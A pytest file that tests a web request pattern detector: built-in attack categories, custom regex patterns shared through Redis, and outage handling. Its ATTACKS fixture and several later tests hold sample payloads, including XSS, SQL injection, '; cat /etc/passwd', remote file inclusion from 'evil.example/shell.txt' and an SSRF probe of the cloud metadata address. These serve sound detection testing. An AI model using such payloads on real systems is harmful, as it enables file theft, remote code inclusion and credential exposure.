"""SusPatternsManager in every mode, written once for both faces."""

from __future__ import annotations

import dataclasses
import json
import logging
from collections.abc import Callable

import pytest

from guard_core._shared.concurrency import async_sleep
from guard_core._shared.policy.attack_patterns import (
    BUILTIN_CATEGORIES,
    MIN_SCAN_LENGTH,
    PatternMatch,
)
from guard_core.handlers.redis_handler import RedisManager
from guard_core.handlers.suspatterns_handler import SusPatternsManager
from guard_core.models import SecurityConfig
from guard_core.testing import LocalRedisServer
from tests.support.backends import Backend, StateEnv
from tests.support.workers import ASYNC_WORKERS, run_async_workers

pytestmark = pytest.mark.anyio

KEY = "guard_core:patterns:custom"
KEY_PARTS = ("patterns", "custom")  # (namespace, key) of KEY
ATTACKS = {
    "xss": "<script>alert(1)</script>",
    "sqli": "' OR 1=1 --",
    "path_traversal": "../../etc/passwd",
    "command_injection": "; cat /etc/passwd",
    "lfi": "php://filter/convert.base64-encode/resource=index.php",
    "rfi": "?page=http://evil.example/shell.txt?",
    "ssrf": "http://169.254.169.254/latest/meta-data",
    "template_injection": "{{7*7}}",
}
BENIGN = [
    "hello world",
    "O'Brien's café",
    '{"name": "Alice", "age": 30, "tags": ["a", "b"], "bio": "I like cats & dogs; really!"}',
    "/api/v1/users/42",
    "https://example.com/search?q=python+regex&page=2",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0",
]


def categories(matches: tuple[PatternMatch, ...]) -> set[str]:
    return {match.category for match in matches}


def stored(env: StateEnv | Backend) -> list[str] | None:
    assert env.inspect is not None
    raw = env.inspect.get(env.key(*KEY_PARTS))
    return None if raw is None else json.loads(raw)


# -- built-in patterns ---------------------------------------------------------------------


async def test_builtins_detect_each_category(state_env: StateEnv) -> None:
    patterns = SusPatternsManager(state_env.config, state_env.redis)
    assert set(ATTACKS) <= BUILTIN_CATEGORIES
    for category, attack in ATTACKS.items():
        matches = await patterns.detect(attack)
        assert category in categories(matches), attack
        assert all(match.category in BUILTIN_CATEGORIES for match in matches)
    assert "xss" in categories(await patterns.detect("<ScRiPt SRC=//x></sCrIpT>"))


async def test_benign_content_is_not_flagged(state_env: StateEnv) -> None:
    patterns = SusPatternsManager(state_env.config, state_env.redis)
    for text in BENIGN:
        assert await patterns.detect(text) == (), text


# -- custom patterns -----------------------------------------------------------------------


async def test_add_get_detect_remove(state_env: StateEnv) -> None:
    patterns = SusPatternsManager(state_env.config, state_env.redis)
    listed = await patterns.get_patterns()
    assert listed.custom == ()
    assert len(listed.builtin) >= len(ATTACKS)
    assert await patterns.detect("please run evilcmd now") == ()

    await patterns.add_pattern(r"evil\w+")
    await patterns.add_pattern(r"(?-i:CaseSensitive)")
    await patterns.add_pattern(r"evil\w+")  # twice: still one
    listed = await patterns.get_patterns()
    assert listed.custom == (r"(?-i:CaseSensitive)", r"evil\w+")
    assert r"evil\w+" not in listed.builtin
    assert await patterns.detect("please run EVILcmd now") == (PatternMatch(r"evil\w+", "custom"),)
    assert await patterns.detect("casesensitive") == ()
    assert categories(await patterns.detect("CaseSensitive <script>")) == {"custom", "xss"}

    assert await patterns.remove_pattern(r"evil\w+") is True
    assert await patterns.remove_pattern(r"evil\w+") is False
    assert await patterns.remove_pattern("never-added") is False
    assert await patterns.detect("please run evilcmd now") == ()
    assert (await patterns.get_patterns()).custom == (r"(?-i:CaseSensitive)",)


async def test_custom_patterns_are_stored_in_redis(state_env: StateEnv) -> None:
    patterns = SusPatternsManager(state_env.config, state_env.redis)
    tricky = 'quote"slash/back\\slash café'
    for pattern in ("zeta", "alpha", tricky):
        await patterns.add_pattern(pattern)
    if not state_env.shared:
        assert patterns.pending_changes == {"zeta": True, "alpha": True, tricky: True}
        return
    assert stored(state_env) == sorted(["zeta", "alpha", tricky])
    assert patterns.pending_changes == {}
    assert patterns.added_here == {"zeta", "alpha", tricky}
    await patterns.remove_pattern("zeta")
    await patterns.remove_pattern("alpha")
    await patterns.remove_pattern(tricky)
    assert stored(state_env) == []
    assert patterns.added_here == frozenset()


async def test_bad_input_raises_before_touching_redis(state_env: StateEnv) -> None:
    patterns = SusPatternsManager(state_env.config, state_env.redis)
    with pytest.raises(ValueError, match=r"invalid regular expression .*missing \)"):
        await patterns.add_pattern("(unclosed")
    with pytest.raises(ValueError, match="empty"):
        await patterns.add_pattern("")
    with pytest.raises(ValueError, match="empty"):
        await patterns.add_pattern("   ")
    with pytest.raises(ValueError, match="UTF-8"):
        await patterns.add_pattern("bad\ud800")
    for bad in (None, 42, b"bytes", ["x"]):
        with pytest.raises(TypeError, match="pattern must be a str"):
            await patterns.add_pattern(bad)  # type: ignore[arg-type]
        with pytest.raises(TypeError, match="pattern must be a str"):
            await patterns.remove_pattern(bad)  # type: ignore[arg-type]
        with pytest.raises(TypeError, match="content must be a str"):
            await patterns.detect(bad)  # type: ignore[arg-type]
    with pytest.raises(ValueError):
        await patterns.remove_pattern("")
    assert (await patterns.get_patterns()).custom == ()
    if state_env.inspect is not None:
        assert state_env.inspect.exists(state_env.key(*KEY_PARTS)) == 0


async def test_content_length_limit(state_env: StateEnv) -> None:
    limit = MIN_SCAN_LENGTH + 40
    config = dataclasses.replace(state_env.config, pattern_max_content_length=limit)
    patterns = SusPatternsManager(config, state_env.redis)
    await patterns.add_pattern("needle")
    padding = "x" * limit
    assert await patterns.detect(padding + "<script>alert(1)</script> needle") == ()
    assert await patterns.detect(padding[:-4] + "needle") == ()  # cut in the middle
    assert await patterns.detect(padding[:-6] + "needle") == (PatternMatch("needle", "custom"),)
    assert "xss" in categories(await patterns.detect("<script>alert(1)</script>" + padding))


@pytest.mark.parametrize("configured", [None, 40])
async def test_payload_behind_padding_is_found(state_env: StateEnv, configured: int | None) -> None:
    """Content is scanned up to at least 1 MiB whatever the configuration: a payload after
    the first 10,000 characters used to pass unseen."""
    config = state_env.config
    if configured is not None:
        config = dataclasses.replace(config, pattern_max_content_length=configured)
    patterns = SusPatternsManager(config, state_env.redis)
    await patterns.add_pattern("needle")
    found = await patterns.detect("a" * 10_000 + "<script>alert(1)</script>")
    assert "xss" in categories(found)
    tail = await patterns.detect("é" * (MIN_SCAN_LENGTH - 6) + "needle")
    assert tail == (PatternMatch("needle", "custom"),)
    assert await patterns.detect("é" * MIN_SCAN_LENGTH + "<script> needle") == ()


async def test_patterns_the_matcher_cannot_take_are_refused(state_env: StateEnv) -> None:
    patterns = SusPatternsManager(state_env.config, state_env.redis)
    for pattern, feature in [(r"(\w)\1", "backreference"), ("(?<=a)b", "look-around")]:
        with pytest.raises(ValueError, match=f"uses (a )?{feature}"):
            await patterns.add_pattern(pattern)
    assert (await patterns.get_patterns()).custom == ()
    await patterns.add_pattern("(a+)+$")  # linear under RE2: accepted and cheap
    found = await patterns.detect("a" * 100_000 + "!")
    assert found == ()
    assert await patterns.detect("aaa") == (PatternMatch("(a+)+$", "custom"),)


async def test_no_redis_manager_at_all() -> None:
    config = SecurityConfig(enable_redis=False)
    first = SusPatternsManager(config)
    second = SusPatternsManager(config, None)
    await first.add_pattern("only-here")
    assert await first.detect("x only-here") == (PatternMatch("only-here", "custom"),)
    assert await second.detect("x only-here") == ()
    assert (await first.get_patterns()).custom == ("only-here",)
    assert await first.refresh() is False
    assert "sqli" in categories(await second.detect("' OR 1=1 --"))
    assert await first.remove_pattern("only-here") is True
    assert first.pending_changes == {}


async def test_disabled_redis_keeps_customs_per_instance() -> None:
    config = SecurityConfig(enable_redis=False)
    redis = RedisManager(config)
    first, second = SusPatternsManager(config, redis), SusPatternsManager(config, redis)
    await first.add_pattern("mine")
    assert await first.detect("mine") == (PatternMatch("mine", "custom"),)
    assert await second.detect("mine") == ()
    assert first.added_here == {"mine"}
    assert first.pending_changes == {"mine": True}


# -- sharing between instances -------------------------------------------------------------


async def test_two_instances_share_custom_patterns(
    make_manager: Callable[..., RedisManager], backend: Backend
) -> None:
    first_redis = make_manager(redis_state_refresh_interval=0.01)
    second_redis = make_manager(redis_state_refresh_interval=0.01)
    first = SusPatternsManager(first_redis.config, first_redis)
    second = SusPatternsManager(second_redis.config, second_redis)
    assert await second.detect("shared-attack") == ()  # caches the (empty) shared list
    await first.add_pattern("shared-attack")
    await async_sleep(0.03)
    assert await second.detect("a shared-attack") == (PatternMatch("shared-attack", "custom"),)
    assert (await second.get_patterns()).custom == ("shared-attack",)
    assert await second.remove_pattern("shared-attack") is True  # added elsewhere
    await async_sleep(0.03)
    assert await first.detect("a shared-attack") == ()
    assert stored(backend) == []


async def test_detect_reads_redis_at_most_once_per_interval(
    make_manager: Callable[..., RedisManager], backend: Backend
) -> None:
    writer_redis = make_manager()
    reader_redis = make_manager(redis_state_refresh_interval=3600)
    writer = SusPatternsManager(writer_redis.config, writer_redis)
    reader = SusPatternsManager(reader_redis.config, reader_redis)
    assert await reader.detect("later") == ()
    await writer.add_pattern("later")
    assert await reader.detect("later") == ()  # the cached list is still fresh
    assert await reader.refresh() is True
    assert await reader.detect("later") == (PatternMatch("later", "custom"),)
    await reader.add_pattern("own")  # the instance's own change applies at once
    assert categories(await reader.detect("own later")) == {"custom"}
    assert len(await reader.detect("own later")) == 2
    assert stored(backend) == ["later", "own"]


async def test_concurrent_adds_from_two_instances_all_survive(
    make_manager: Callable[..., RedisManager], backend: Backend
) -> None:
    redis_managers = [make_manager(), make_manager()]
    instances = [SusPatternsManager(r.config, r) for r in redis_managers]
    count = min(ASYNC_WORKERS, 64)

    async def add(index: int) -> None:
        await instances[index % 2].add_pattern(f"attack-{index:03d}")

    await run_async_workers(count, add)
    expected = sorted(f"attack-{index:03d}" for index in range(count))
    assert stored(backend) == expected
    for instance in instances:
        assert (await instance.get_patterns()).custom == tuple(expected)

    async def remove(index: int) -> None:
        assert await instances[index % 2].remove_pattern(f"attack-{index:03d}") is True

    await run_async_workers(count, remove)
    assert stored(backend) == []


async def test_script_is_reloaded_after_script_flush(shared_env: StateEnv) -> None:
    patterns = SusPatternsManager(shared_env.config, shared_env.redis)
    await patterns.add_pattern("first")
    assert shared_env.inspect is not None
    shared_env.inspect.script_flush()
    await patterns.add_pattern("second")
    assert stored(shared_env) == ["first", "second"]
    assert patterns.pending_changes == {}


async def test_malformed_shared_value_is_left_alone(
    shared_env: StateEnv, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="guard_core.patterns")
    assert shared_env.inspect is not None
    shared_env.inspect.set(shared_env.key(*KEY_PARTS), '{"not": "a list"}')
    config = dataclasses.replace(shared_env.config, redis_state_refresh_interval=0.001)
    patterns = SusPatternsManager(config, shared_env.redis)
    assert "xss" in categories(await patterns.detect("<script>"))
    await patterns.add_pattern("kept-here")  # Redis refuses to rewrite what it cannot read
    await async_sleep(0.01)
    assert await patterns.detect("kept-here") == (PatternMatch("kept-here", "custom"),)
    assert patterns.pending_changes == {"kept-here": True}
    assert shared_env.inspect.get(shared_env.key(*KEY_PARTS)) == '{"not": "a list"}'
    malformed = [r for r in caplog.records if "not a JSON array" in r.getMessage()]
    assert len(malformed) == 1  # reported once, not on every read


async def test_invalid_shared_pattern_is_skipped(
    shared_env: StateEnv, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="guard_core.patterns")
    assert shared_env.inspect is not None
    shared_env.inspect.set(shared_env.key(*KEY_PARTS), json.dumps(["(broken", "fine"]))
    patterns = SusPatternsManager(shared_env.config, shared_env.redis)
    assert await patterns.detect("fine (broken") == (PatternMatch("fine", "custom"),)
    assert (await patterns.get_patterns()).custom == ("fine",)
    assert len([r for r in caplog.records if "(broken" in r.getMessage()]) == 1


# -- Redis failing mid-run -----------------------------------------------------------------


async def test_redis_stopped_mid_run(
    private_server: LocalRedisServer, private_env: StateEnv
) -> None:
    config = dataclasses.replace(private_env.config, redis_state_refresh_interval=0.01)
    first = SusPatternsManager(config, private_env.redis)
    other_redis = RedisManager(config)
    other = SusPatternsManager(config, other_redis)
    await first.add_pattern("before-outage")
    await async_sleep(0.03)
    assert await other.detect("before-outage") == (PatternMatch("before-outage", "custom"),)

    private_server.stop()
    await async_sleep(0.03)
    assert await first.detect("before-outage") == (PatternMatch("before-outage", "custom"),)
    assert "ssrf" in categories(await first.detect("http://169.254.169.254/latest/meta-data"))
    await first.add_pattern("during-outage")  # kept here, no exception
    assert await first.detect("during-outage") == (PatternMatch("during-outage", "custom"),)
    assert first.pending_changes == {"during-outage": True}
    assert first.added_here == {"before-outage", "during-outage"}
    assert "during-outage" in (await first.get_patterns()).custom
    assert await other.detect("during-outage") == ()
    assert await first.remove_pattern("before-outage") is True  # masked here until replayed
    assert await first.detect("before-outage") == ()
    assert first.pending_changes == {"during-outage": True, "before-outage": False}
    assert first.added_here == {"during-outage"}

    private_server.start()
    await async_sleep(0.03)
    assert await first.detect("during-outage") == (PatternMatch("during-outage", "custom"),)
    await other.add_pattern("after-restart")
    await async_sleep(0.03)
    assert await first.detect("after-restart") == (PatternMatch("after-restart", "custom"),)
    assert private_env.inspect is not None
    assert "after-restart" in json.loads(private_env.inspect.get(KEY) or "[]")
    await other_redis.close()


async def test_patterns_survive_a_restart_and_lifted_ones_stay_lifted(
    private_server: LocalRedisServer, private_env: StateEnv
) -> None:
    config = dataclasses.replace(private_env.config, redis_state_refresh_interval=0.001)
    first = SusPatternsManager(config, private_env.redis)
    other_redis = RedisManager(config)
    second = SusPatternsManager(config, other_redis)
    await first.add_pattern(r"kept-\d+")
    await first.add_pattern(r"lifted-\d+")
    assert await second.remove_pattern(r"lifted-\d+") is True
    await async_sleep(0.01)
    assert await first.detect("lifted-1") == ()  # first reads the removal
    private_server.stop()
    private_server.start()  # empty
    await first.detect("x")  # notices the restart and writes its patterns again
    await first.detect("x")
    await async_sleep(0.01)
    assert [m.pattern for m in await second.detect("kept-1 lifted-1")] == [r"kept-\d+"]
    assert private_env.inspect is not None
    assert json.loads(private_env.inspect.get(KEY) or "[]") == [r"kept-\d+"]
    await other_redis.close()
